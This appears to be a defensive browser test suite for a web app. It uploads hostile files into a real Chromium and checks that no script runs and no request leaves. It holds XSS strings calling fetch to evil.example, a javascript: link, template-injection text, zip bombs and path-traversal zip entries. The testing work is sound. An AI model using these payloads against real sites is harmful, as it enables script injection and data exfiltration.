"""What strangers give, in a real Chromium: files, names and SVGs that would run a script or send a request."""

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

import psutil
import pytest

from core.config.installation import PageSettings, Settings, write_settings
from core.csv_files import unguarded
from core.names import printable
from core.runs.records import write_label
from core.scheduling import batch
from pages.views.reports import kinds
from pages.views.reports.document import to_html
from storage.ingest import catch_up
from storage.store import Store
from tests.support import hostile
from tests.support.browsers import FLAGS
from tests.support.evaluated import digest_of, evaluated_run
from tests.support.paths import ROOT
from tests.support.servers import serving, speaks_to_itself_only

CHOSEN = re.compile(r"^\d+ files chosen, ")
MAX_MB, PER_FILE_S = 1000, 5.0
FATES = {"taken": ("taken",), "refused": ("refused",), "either": ("taken", "refused")}


def shown_name(name: str) -> str:
    """A file's name as a browser sends it and the console shows it."""
    return printable(name.replace('"', "%22").replace("\n", "%0A"))


def outcome_of(name: str, told: dict[str, tuple[str, str]]) -> str:
    """What became of a file, or of all that is in a zip."""
    shown = shown_name(name)
    found = {said[0] for given, said in told.items() if given == shown or given.startswith(f"{shown}/")}
    return found.pop() if len(found) == 1 else f"nothing clear: {found}"


@contextmanager
def peaks_of(pid: int):
    """{what a process is: its largest resident memory, in MB} of a server and all that it starts."""
    found, over = {}, threading.Event()

    def watch():
        while not over.wait(0.1):
            with contextlib.suppress(psutil.Error):
                for process in (server := psutil.Process(pid), *server.children(recursive=True)):
                    with contextlib.suppress(psutil.Error):
                        name = " ".join(process.cmdline()[1:4])
                        found[name] = max(found.get(name, 0.0), process.memory_info().rss / 2**20)

    watching = threading.Thread(target=watch, daemon=True)
    watching.start()
    try:
        yield found
    finally:
        over.set()
        watching.join(10)


SCRIPT = "<script>window.evil = 1; fetch('http://evil.example/name')</script><img src=x onerror='window.evil = 2'>"
SHOWN = ("svg-script.svg", "head-PNG.png", hostile.NAMES[4], hostile.NAMES[5])  # on Optimize, to the end
MARKDOWN = "![a](http://evil.example/markdown.png) [b](javascript:alert(1)) **c** $d$ {{ 7*7 }}"


def spied(context, urls: list[str]):
    """A page of which every request that leaves is written down, and every script that runs sets ``window.evil``."""
    page = context.new_page()
    page.set_default_timeout(180_000)  # of a machine that is busy with other things
    page.on("request", lambda request: urls.append(request.url))
    page.on("dialog", lambda dialog: (urls.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    return page


def settled(page) -> None:
    page.wait_for_selector('[data-testid="stApp"][data-test-script-state="notRunning"]', timeout=180_000)


@pytest.fixture
def strange_home(home):
    """A run of logos with hostile names, one of whose SVGs was replaced by a hostile one."""
    run = evaluated_run(home, 2, 3, "strange", names=[SCRIPT.replace("/", "∕"), MARKDOWN, "plain"])
    write_label(run, f"{SCRIPT} {MARKDOWN}", SCRIPT)
    other = evaluated_run(home, 2, 3, "other", names=[SCRIPT.replace("/", "∕"), MARKDOWN, "plain"])
    evil = "".join(file.data.decode() for file in hostile.svgs() if file.name == "svg-script.svg")
    run.svg_file(2048, digest_of(0)).write_text(evil)
    other.svg_file(2048, digest_of(1)).write_text(evil)
    return run, other


@pytest.mark.timeout(1800)
def test_what_strangers_give_runs_no_script_and_sends_no_request(home, tmp_path, chromium, strange_home):
    """The whole corpus is dropped on Logos and Optimize; hostile names and SVGs are shown on every page with pictures, in a report and a film."""
    from playwright.sync_api import sync_playwright

    run, other = strange_home
    files = hostile.corpus()
    folder, temporary = tmp_path / "given", tmp_path / "tmp"
    for each in (folder, temporary):
        each.mkdir()
    given = [folder / file.name for file in files]
    for path, file in zip(given, files, strict=True):
        path.write_bytes(file.data)
    archive = tmp_path / "all.zip"
    archive.write_bytes(hostile.as_zip([file for file in files if file.name in ("bomb-60000.png", "bomb.svgz", "zip-bomb.zip")]))
    before = {path.name for path in tmp_path.iterdir()}
    urls: list[str] = []
    with (
        serving(home, tmp_path, environment={"TMPDIR": str(temporary)}) as server,
        peaks_of(server.process.pid) as peaks,
        sync_playwright() as playwright,
    ):
        server.await_read(run.events_file.stat().st_size + other.events_file.stat().st_size)
        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        page = spied(browser.new_context(viewport={"width": 1440, "height": 1000}, accept_downloads=True), urls)

        def clean() -> None:
            assert page.evaluate("window.evil") is None
            assert not page.locator("[data-testid=stException]").count()
            assert not [
                (url, page.url)
                for url in urls
                if not url.startswith((server.url, server.url.replace("http", "ws"), "data:", "blob:", "file:"))
            ]

        def told_after(button: str, n: int) -> dict[str, tuple[str, str]]:
            """Press it, and read the list of what became of the ``n`` files: {name: (outcome, reason)}."""
            page.get_by_role("button", name=button, exact=True).first.click(timeout=1000 * PER_FILE_S * n)  # once all are uploaded
            began = time.monotonic()
            page.get_by_text(" taken, ").first.wait_for(timeout=1000 * PER_FILE_S * n)
            assert time.monotonic() - began < PER_FILE_S * n
            with page.expect_download() as got:
                page.get_by_role("button", name="All files, CSV").first.click()
            assert got.value.suggested_filename == "uploads.csv"
            rows = list(csv.DictReader(io.StringIO(got.value.path().read_text(encoding="utf-8"), newline="")))
            assert not [row for row in rows if row["outcome"] == "refused" and not 8 < len(row["reason"]) < 300]
            assert not [row for row in rows if "\n" in row["reason"] or "Traceback" in row["reason"]]
            return {unguarded(row["file"]): (row["outcome"], row["reason"]) for row in rows}

        page.goto(f"{server.url}/logos?tab=Make+a+set")
        settled(page)
        page.get_by_role("textbox", name="Name of the set").fill("strange")
        page.locator("input[type=file]").first.set_input_files([*map(str, given), str(archive)])
        page.get_by_text(CHOSEN).wait_for(timeout=1000 * PER_FILE_S * len(given))
        page.get_by_role("textbox", name="Name of the set").press("Tab")
        told = told_after("Add to set", len(files))
        clean()
        became = {file.name: (file.fate, outcome_of(file.name, told)) for file in files}
        assert not {name: said for name, said in became.items() if said[1] not in FATES[said[0]]}
        assert {f"all.zip/{name}" for name in ("../../outside.png", "/etc/absolute.png", "Case.png", "case.png")} <= told.keys()
        assert {path.name for path in (home / "logos").iterdir()} == {"strange"}
        n_taken = sum(outcome == "taken" for outcome, _ in told.values())
        assert len(list((home / "logos" / "strange").iterdir())) == n_taken + 1

        page.goto(f"{server.url}/optimize")
        settled(page)
        page.locator("input[type=file]").set_input_files([*map(str, given), str(archive)])
        page.get_by_text(CHOSEN).wait_for(timeout=1000 * PER_FILE_S * len(given))
        told = told_after("Optimize", len(files))
        assert {shown_name(file.name) for file in files if file.fate == "taken"} <= {
            name for name, said in told.items() if said[0] == "taken"
        }
        page.get_by_role("button", name="Cancel").first.click()
        page.get_by_text("This batch was cancelled").wait_for()
        clean()
        page.goto(f"{server.url}/optimize")
        settled(page)
        few = [file for file in files if file.fate == "refused" or file.name in SHOWN]
        page.locator("input[type=file]").set_input_files([str(folder / file.name) for file in few])
        page.get_by_text("svg-script.svg").first.wait_for(state="attached")  # the box may be folded
        page.get_by_role("button", name="Optimize", exact=True).first.click()
        page.locator(".card .pair").first.wait_for(timeout=1000 * PER_FILE_S * len(few))
        page.locator(".card .pair").first.click()
        page.locator(".handle").first.wait_for()
        page.get_by_text(" taken, ").first.wait_for()
        clean()
        skipped = batch.all_batches(home)[0].result()["skipped"]
        intake = batch.all_batches(home)[0].intake()
        lost = {Path(item["file"]).name for item in skipped}
        told = {item.given: ("refused", item.reason) for item in intake.refused}
        told |= {item.given: ("refused" if item.name in lost else "taken", "") for item in intake.taken}
        became = {file.name: (file.fate, outcome_of(file.name, told)) for file in few}
        assert not {name: said for name, said in became.items() if said[1] not in FATES[said[0]]}
        assert not [path for path in (home / "batches").iterdir() if path.name.startswith(".")]

        write_settings(home, Settings(pages=PageSettings(folders=[str(folder)])))
        page.goto(f"{server.url}/logos?path={quote(str(folder))}&tab=Skipped")
        settled(page)
        clean()
        for address in (
            "", f"gallery?run={run.run_id}", f"gallery?run={run.run_id}&logo={quote(MARKDOWN)}", f"compare?run={run.run_id}&run={other.run_id}",
            f"compare?run={run.run_id}&run={other.run_id}&tab=Logo+by+logo", f"workbench?run={run.run_id}&logo={quote(MARKDOWN)}",
            f"live?run={run.run_id}", "choose", "reports", "alerts", "system",
        ):  # fmt: skip
            page.goto(f"{server.url}/{address}")
            settled(page)
            page.locator("h1").first.wait_for()
            clean()

        report = tmp_path / "report.html"
        with Store(None) as store:
            catch_up(store, home, {})
            report.write_bytes(to_html(kinds.build("comparison", kinds.Request(store, [run, other]))))
        page.goto(report.as_uri())
        page.wait_for_function("[...document.images].every(i => i.complete || i.loading === 'lazy')")
        clean()
        film = subprocess.run(
            [sys.executable, "-m", "core", "film", str(run.path), "--out", str(tmp_path / "film.webp"), "--json"],
            cwd=ROOT, capture_output=True, text=True, timeout=120, env=os.environ | {"TRACEWRIGHT_HOME": str(home)},
        )  # fmt: skip
        assert film.returncode == 0, film.stderr
        assert [problem["word"] for problem in json.loads(film.stdout.splitlines()[-1])["problems"]] == ["damaged"]
        browser.close()
        speaks_to_itself_only(server)
        assert "Traceback" not in server.output.read_text(errors="replace")
    assert max(peaks.values()) < MAX_MB, peaks
    assert list(temporary.iterdir()) == []
    assert {path.name for path in tmp_path.iterdir()} - before <= {"home", "server.log", "server.addresses", "report.html", "film.webp"}
